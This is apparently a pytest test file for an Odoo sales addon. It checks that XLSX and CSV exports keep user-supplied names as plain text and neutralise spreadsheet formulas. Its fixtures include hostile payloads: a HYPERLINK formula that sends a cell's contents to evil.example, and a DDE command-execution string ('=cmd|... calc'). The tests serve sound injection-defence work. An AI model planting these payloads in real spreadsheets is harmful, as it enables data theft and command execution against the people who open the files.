# -*- coding: utf-8 -*-
"""Output never executes input (issue 12): user text that looks like a formula or a link
comes out of every XLSX the addon writes as plain text, and out of CSV neutralised.
Pure Python, no database."""
import csv
import datetime
import io
import os
import re

import openpyxl
import pandas as pd
import pytest

from odoo.addons.sales_mis.crm_logic import visit_import
from odoo.addons.sales_mis.crm_logic.competitor_xlsx import build_competitor_workbook
from odoo.addons.sales_mis.planning.completion_xlsx import build_completion_workbook
from odoo.addons.sales_mis.planning.statement_xlsx import build_statement_workbook
from odoo.addons.sales_mis.reporting.xlsx_safe import csv_cell
from odoo.addons.sales_mis.reporting.xlsx_table import build_table_workbook

FORMULA = '=HYPERLINK("http://evil.example/?"&C5,"x")'
URL = 'http://evil.example/steal'
#: what a hostile user may call a customer, a salesperson, a team or a competitor
HOSTILE = [FORMULA, '=1+1', '+SUM(A1:A9)', '-2+3', '@SUM(A1)', URL, "=cmd|' /C calc'!A0"]
ADDON = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def cells(data):
    """(value, data_type, has hyperlink) of every cell of every sheet of XLSX bytes."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [(cell.value, cell.data_type, cell.hyperlink is not None)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text(data, texts):
    found = cells(data)
    assert not [c for c in found if c[1] == 'f'], 'a cell was written as a formula: %s' % found
    assert not [c for c in found if c[2]], 'a cell was written as a hyperlink'
    for text in texts:
        assert (text, 's', False) in found, '%r is not a text cell of the workbook' % text


def test_report_table_keeps_names_as_text():
    frame = pd.DataFrame({'customer': HOSTILE, 'amount': [1.0] * len(HOSTILE)})
    data = build_table_workbook(frame, [('customer', 'Customer', 'text'), ('amount', 'Amount', 'money')],
                                FORMULA, subtitle=URL)
    assert_text(data, HOSTILE)


def test_completion_workbook_keeps_names_as_text():
    rows = pd.DataFrame({'salesperson': HOSTILE, 'team': list(reversed(HOSTILE)),
                         'month': [datetime.date(2030, 1, 1)] * len(HOSTILE),
                         'target': [10.0] * len(HOSTILE), 'actual': [5.0] * len(HOSTILE),
                         'projection': [8.0] * len(HOSTILE)})
    data = build_completion_workbook(rows, [datetime.date(2030, 1, 1)], FORMULA, {'total': '=SUM(1)'})
    assert_text(data, HOSTILE + ['=SUM(1)'])


def test_statement_workbook_keeps_names_as_text():
    rows = pd.DataFrame({'salesperson': HOSTILE, 'team': HOSTILE, 'period': ['2030-01'] * len(HOSTILE),
                         'category': ['@cat'] * len(HOSTILE), 'sales': [100.0] * len(HOSTILE),
                         'rate': [0.1] * len(HOSTILE), 'multiplier': [1.0] * len(HOSTILE),
                         'commission': [10.0] * len(HOSTILE)})
    labels = {name: name for name in rows.columns}
    labels.update(total='Total', salesperson='=caption')
    data = build_statement_workbook(rows, FORMULA, labels)
    assert_text(data, HOSTILE + ['@cat', '=caption'])


def test_competitor_workbook_keeps_names_as_text():
    rows = [(name, 3, 1, 1, 100.0, 50.0, 20.0) for name in HOSTILE]
    data = build_competitor_workbook(rows, FORMULA, {'competitor': '-caption'})
    assert_text(data, HOSTILE + ['-caption'])


def test_visit_import_template_keeps_texts_as_text():
    example = [{'customer': name, 'subject': FORMULA, 'date': '2030-03-01'} for name in HOSTILE]
    data = visit_import.template_xlsx({'customer': FORMULA}, example=example, labels={'yes': '=yes'})
    assert_text(data, HOSTILE + ['=yes'])


def test_csv_cells_that_start_like_a_formula_are_neutralised():
    assert [csv_cell(text) for text in ['=1+1', '+1', '-1', '@A1', '\tx', '\rx']] == \
        ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx"]
    assert [csv_cell(value) for value in ['ABC', '', 'a=b', -1, 2.5, None]] == ['ABC', '', 'a=b', -1, 2.5, None]
    data = visit_import.template_csv([{'customer': FORMULA, 'subject': 'fine'}])
    rows = list(csv.reader(io.StringIO(data.decode('utf-8-sig'))))
    assert rows[1][visit_import.COLUMN_NAMES.index('customer')] == "'" + FORMULA
    assert rows[1][visit_import.COLUMN_NAMES.index('subject')] == 'fine'


def test_every_workbook_of_both_addons_is_opened_by_the_safe_helper():
    """A new builder that opens xlsxwriter or pandas' ExcelWriter by itself would write
    formulas again: only reporting/xlsx_safe.py may."""
    offenders = []
    for root in (ADDON, os.path.join(os.path.dirname(ADDON), 'sales_mis_forecast')):
        for folder, _dirs, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                if not name.endswith('.py') or 'tests' in folder.split(os.sep) \
                        or path.endswith(os.path.join('reporting', 'xlsx_safe.py')):
                    continue
                with open(path, encoding='utf-8') as source:
                    text = source.read()
                if re.search(r'xlsxwriter\.Workbook\(|ExcelWriter\(|engine=.xlsxwriter', text):
                    offenders.append(os.path.relpath(path, os.path.dirname(ADDON)))
    assert offenders == []


@pytest.mark.parametrize('text', HOSTILE)
def test_hostile_text_read_back_by_the_import_is_the_same_text(text):
    """The import keeps what the template wrote: text, never evaluated."""
    example = [{'customer': 'ABC', 'subject': text, 'date': '2030-03-01'}]
    frame = visit_import.read_table(visit_import.template_xlsx({}, example=example))
    assert list(frame['subject']) == [text]
